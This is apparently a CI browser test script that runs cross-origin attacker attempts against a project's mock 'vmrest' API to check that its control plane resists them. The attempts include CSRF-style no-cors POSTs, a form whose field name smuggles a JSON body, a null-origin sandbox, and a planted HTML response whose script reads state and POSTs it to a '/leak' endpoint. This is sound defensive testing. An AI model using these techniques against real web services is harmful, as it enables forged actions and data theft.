// Runs in the pages of .ci/browser, with its `settings`. `run` names a function below.

const SIMPLE_TYPES = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];
const { target } = settings;
const state = `${target}/__mock/state`;
const faults = `${target}/__mock/faults`;

const fault = (name) => JSON.stringify({ requests: { path: name }, effect: "reset" });

// Milliseconds for an attempt. Where it must succeed, there is time for a busy machine.
const patience = Number(settings.patience ?? 2000);

// Resolves with the value of a promise, or "" if it fails or takes too long.
const within = (promise) =>
  Promise.race([promise.catch(() => ""), new Promise((resolve) => setTimeout(resolve, patience, ""))]);

// Resolves with the text of a response that the page may read.
const text = async (url, options) => (await fetch(url, options)).text();

// Resolves when an element has been loaded or not. The event is all that a page learns of another origin's element.
const load = (element) =>
  new Promise((resolve) => {
    element.onload = element.onloadeddata = () => resolve(`loaded ${element.localName}`);
    element.onerror = () => resolve("");
    document.body.append(element);
  });

const element = (name, properties) => Object.assign(document.createElement(name), properties);

// Resolves with the first message from another window or a worker.
const message = (receiver) =>
  new Promise((resolve) => receiver.addEventListener("message", (event) => resolve(event.data), { once: true }));

// Each attempt of an attacker resolves with the text that it has read, or with "". The names are those of the table in
// docs/security.md.
const attempts = {
  "fetch without CORS": async () => {
    const read = [await text(state, { mode: "no-cors", credentials: "include" })];
    for (const type of SIMPLE_TYPES) {
      const headers = { "Content-Type": type };
      read.push(await text(faults, { method: "POST", mode: "no-cors", headers, body: fault(type) }));
    }
    return read.join();
  },
  "fetch with CORS": async () => {
    await within(text(faults, { method: "POST", body: fault("cors") }));
    await within(text(`${target}/__mock/spaces`, { method: "POST", body: '{"name":"evil"}' }));
    return text(state);
  },
  "fetch with a preflight": async () => {
    await within(text(`${target}/__mock/snapshots/evil`, { method: "PUT" }));
    await within(text(`${target}/__mock/requests`, { method: "DELETE" }));
    await within(text(`${target}/__mock/clock`, { method: "PUT", body: '{"mode":"frozen"}' }));
    return text(state, { headers: { "X-Own": "1", Authorization: `Bearer ${settings.token ?? "guess"}` } });
  },
  "a form": async () => {
    for (const enctype of SIMPLE_TYPES) {
      const frame = element("iframe", { name: `form-${enctype}` });
      document.body.append(frame);
      const form = element("form", { method: "post", action: faults, enctype, target: frame.name });
      // As text, the body is NAME=VALUE.
      form.append(element("input", { name: '{"effect":"reset","requests":{"path":"form', value: 'form"}}' }));
      document.body.append(form);
      const loaded = new Promise((resolve) => (frame.onload = resolve));
      form.submit();
      await within(loaded);
    }
    return "";
  },
  "an image, a script, a style sheet or a video": async () => {
    const elements = [
      element("img", { src: state }),
      element("script", { src: `${target}/__mock/spaces` }),
      element("link", { rel: "stylesheet", href: state }),
      element("video", { src: state }),
    ];
    const loaded = await Promise.all(elements.map((each) => within(load(each))));
    return loaded.filter(Boolean).join();
  },
  "a frame": async () => {
    const frames = [element("iframe", { src: state }), element("object", { data: state })];
    await Promise.all(frames.map((frame) => within(load(frame))));
    return frames.map((frame) => frame.contentDocument?.documentElement.textContent ?? "").join();
  },
  "a window that it opens": async () => {
    const opened = window.open(state);
    const read = async () => {
      for (;;) {
        // Another origin's window throws.
        const found = opened.document.documentElement?.textContent ?? "";
        if (opened.location.href !== "about:blank" && opened.document.readyState === "complete") return found;
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    };
    // The window is empty, and of the page's origin, until its document arrives.
    const found = await within(read());
    opened.close();
    return found;
  },
  "a redirect": async () => {
    const redirect = (status, to) => `${settings.pages}/redirect?${status}&${encodeURIComponent(to)}`;
    const body = fault("redirect");
    await within(text(redirect(307, faults), { method: "POST", mode: "no-cors", body }));
    const loaded = await within(load(element("iframe", { src: redirect(302, state) })));
    const found = document.body.lastChild.contentDocument?.documentElement.textContent ?? "";
    return loaded && found + (await within(text(redirect(302, state))));
  },
  "sendBeacon": async () => {
    navigator.sendBeacon(faults, fault("beacon"));
    for (const type of SIMPLE_TYPES) navigator.sendBeacon(faults, new Blob([fault(type)], { type }));
    return "";
  },
  "EventSource": () =>
    new Promise((resolve) => {
      const source = new EventSource(state);
      source.onopen = source.onmessage = () => resolve("opened");
      source.onerror = () => resolve("");
    }),
  "WebSocket": () =>
    new Promise((resolve) => {
      const socket = new WebSocket(state.replace("http", "ws"));
      socket.onopen = () => resolve("opened");
      socket.onerror = () => resolve("");
    }),
  "a worker": () => {
    const code = `
      const read = async () => {
        try { importScripts("${target}/__mock/spaces"); } catch {}
        return (await fetch("${state}")).text();
      };
      read().then(postMessage, () => postMessage(""));`;
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    return message(worker);
  },
  "a sandbox, whose origin is null": () => {
    const code = `
      const read = async () => {
        await fetch("${faults}", { method: "POST", mode: "no-cors", body: ${JSON.stringify(fault("sandbox"))} });
        return (await fetch("${state}")).text();
      };
      read().then((found) => parent.postMessage(found, "*"), () => parent.postMessage("", "*"));`;
    const received = message(window);
    document.body.append(element("iframe", { sandbox: "allow-scripts", srcdoc: `<script>${code}</` + "script>" }));
    return received;
  },
  "a fault with an HTML page, which it then opens": async () => {
    const code = `fetch("/__mock/state").then((response) => response.text())
      .then((body) => fetch("${settings.pages}/leak", { method: "POST", mode: "no-cors", body }));`;
    const headers = { "Content-Type": "text/html" };
    const answer = { status: 200, headers, body: `<script>${code}</` + "script>" };
    const body = JSON.stringify({ requests: { path: "evil" }, effect: { answer } });
    await fetch(faults, { method: "POST", mode: "no-cors", body });
    const opened = window.open(`${target}/vmrest/evil`);
    const leak = async () => {
      while ((await text(`${settings.pages}/leaks`)) === "0") {
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    };
    await within(leak());
    opened.close();
    return "";
  },
};

// The requests of an application that uses the API. Each resolves with the status, and those headers that it can read.
const credentials = (password) => ({ Authorization: `Basic ${btoa(`admin:${password}`)}` });
const described = async (path, options, ...names) => {
  const response = await fetch(`${target}${path}`, options);
  return [response.status, ...names.filter((name) => response.headers.has(name))].join(" ");
};
const application = {
  "read": () => described("/vmrest/tenants", { headers: credentials("secret") }, "X-Request-Id"),
  "create": () => {
    const body = "<Tenant><Alias>page</Alias><SmtpDomain>page.example</SmtpDomain></Tenant>";
    const headers = { ...credentials("secret"), "Content-Type": "application/xml" };
    return described("/vmrest/tenants", { method: "POST", headers, body }, "Location");
  },
  "delete nothing": () => described("/vmrest/tenants/0", { method: "DELETE", headers: credentials("secret") }),
  "wrong password": () => described("/vmrest/tenants", { headers: credentials("wrong") }, "WWW-Authenticate"),
  "the control plane": () => described("/__mock/spaces"),
};

// Requests to the API that need no preflight.
const forge = async () => {
  const body = "<Tenant><Alias>forged</Alias><SmtpDomain>forged.example</SmtpDomain></Tenant>";
  for (const type of SIMPLE_TYPES) {
    const headers = { "Content-Type": type };
    await text(`${target}/vmrest/tenants`, { method: "POST", mode: "no-cors", credentials: "include", headers, body });
  }
  await text(`${target}/vmrest/tenants`, { method: "POST", mode: "no-cors", body: new Blob([body]) });
  return { read: await within(text(`${target}/vmrest/tenants`)) };
};

const runs = {
  start: async () => ({}),
  attack: () => all(attempts),
  application: () => all(application),
  forge,
};

const all = async (functions) => {
  const found = {};
  for (const [name, run] of Object.entries(functions)) found[name] = await within(run());
  return found;
};

const main = async () => {
  if (settings.rebind) await text(`${settings.pages}/rebind?${settings.rebind}`);
  const report = await runs[settings.run]();
  if (settings.run !== "start") {
    await fetch(`${settings.pages}/report`, { method: "POST", mode: "no-cors", body: JSON.stringify(report) });
  }
  location = await text(`${settings.pages}/next`);
};
main();
